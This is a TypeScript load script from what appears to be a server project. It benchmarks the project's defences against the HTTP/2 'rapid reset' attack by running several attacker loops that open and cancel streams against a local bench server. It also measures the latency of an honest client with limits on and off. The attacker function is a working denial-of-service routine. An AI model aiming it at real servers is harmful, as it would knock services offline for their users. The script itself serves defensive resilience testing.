// HTTP/2 rapid reset with reconnects, bounded (issue 10, item 2): attackers on one address open
// streams and cancel them at once (RST_STREAM), reconnecting whenever the server closes the
// connection, for DURATION_MS; meanwhile an honest client on another address calls the server.
// Run against the limits at their defaults and with them off, after a quiet baseline. Prints the
// resets sent per second, the connections the server admitted and refused, the sessions it shed,
// and the honest client's latency. A load script, not a test.
// Run: npm run bench:abuse  (DURATION_MS=5000 ATTACKERS=4 by default)
import { fork } from "node:child_process";
import http2 from "node:http2";
import net from "node:net";
import { fileURLToPath } from "node:url";
import { honestClient, limitsOff, percentile, sleep, startBenchServer } from "./common.ts";

const durationMs = Number(process.env["DURATION_MS"] ?? 5000);
const attackers = Number(process.env["ATTACKERS"] ?? 4);

/** Opens and cancels streams until `until`, reconnecting each time the server closes the session. */
async function attacker(port: number, until: number): Promise<{ resets: number; connections: number }> {
  let resets = 0;
  let connections = 0;
  while (Date.now() < until) {
    connections++;
    await new Promise<void>((resolve) => {
      const session = http2.connect(`http://127.0.0.1:${port}`, {
        createConnection: () => net.connect({ port, host: "127.0.0.1", localAddress: "127.0.0.1" }),
      });
      session.on("error", () => undefined);
      session.once("close", () => resolve());
      const burst = () => {
        if (session.closed || session.destroyed || Date.now() >= until) return session.destroy();
        for (let i = 0; i < 50; i++) {
          try {
            const req = session.request({ ":method": "POST", ":path": "/auth.v1.AuthService/Login", "content-type": "application/grpc" });
            req.on("error", () => undefined);
            req.close(http2.constants.NGHTTP2_CANCEL);
            resets++;
          } catch {
            return session.destroy();
          }
        }
        setImmediate(burst);
      };
      session.once("connect", burst);
    });
  }
  return { resets, connections };
}

function latency(h: { ok: number; failed: number; ms: number[] }): string {
  return `${h.ok} ok, ${h.failed} failed, p50 ${percentile(h.ms, 0.5).toFixed(1)} ms, p99 ${percentile(h.ms, 0.99).toFixed(1)} ms`;
}

/** The attackers run in a child process, so that their busy loop does not delay the honest client. */
function attack(port: number): Promise<Array<{ resets: number; connections: number }>> {
  const child = fork(fileURLToPath(import.meta.url), [], {
    env: { ...process.env, ATTACK_PORT: String(port) },
    execArgv: process.execArgv,
  });
  return new Promise((resolve) => child.once("message", (m) => resolve(m as Array<{ resets: number; connections: number }>)));
}

async function run(label: string, env: Record<string, string>): Promise<void> {
  const server = await startBenchServer(env);
  const quiet = honestClient(server.port, "127.0.0.250", 50);
  await sleep(1500);
  const baseline = quiet.stop();
  const before = await server.stats();
  const honest = honestClient(server.port, "127.0.0.250", 50);
  const results = await attack(server.port);
  const during = honest.stop();
  const stats = await server.stats();
  await server.stop();
  const resets = results.reduce((n, r) => n + r.resets, 0);
  const attempts = results.reduce((n, r) => n + r.connections, 0);
  const honestConnections = during.ok + during.failed;
  console.log(
    `${label}: ${((resets * 1000) / durationMs).toFixed(0)} streams opened and cancelled per second by the attackers (client side), over ${attempts} connections ` +
      `(${stats.accepted - before.accepted - honestConnections} admitted, ${stats.refused - before.refused} refused, ${stats.shedSessions} shed; ${stats.http2Resets} resets seen by the server); ` +
      `server event loop blocked up to ${stats.loopDelayMaxMs.toFixed(0)} ms (p99 ${stats.loopDelayP99Ms.toFixed(0)} ms, quiet: ${before.loopDelayMaxMs.toFixed(0)} ms); ` +
      `honest client quiet: ${latency(baseline)}; during the attack: ${latency(during)}`,
  );
}

const attackPort = process.env["ATTACK_PORT"];
if (attackPort !== undefined) {
  const until = Date.now() + durationMs;
  process.send?.(await Promise.all(Array.from({ length: attackers }, () => attacker(Number(attackPort), until))));
  process.exit(0);
}
await run("limits on (defaults)", {});
await run("limits off           ", limitsOff);
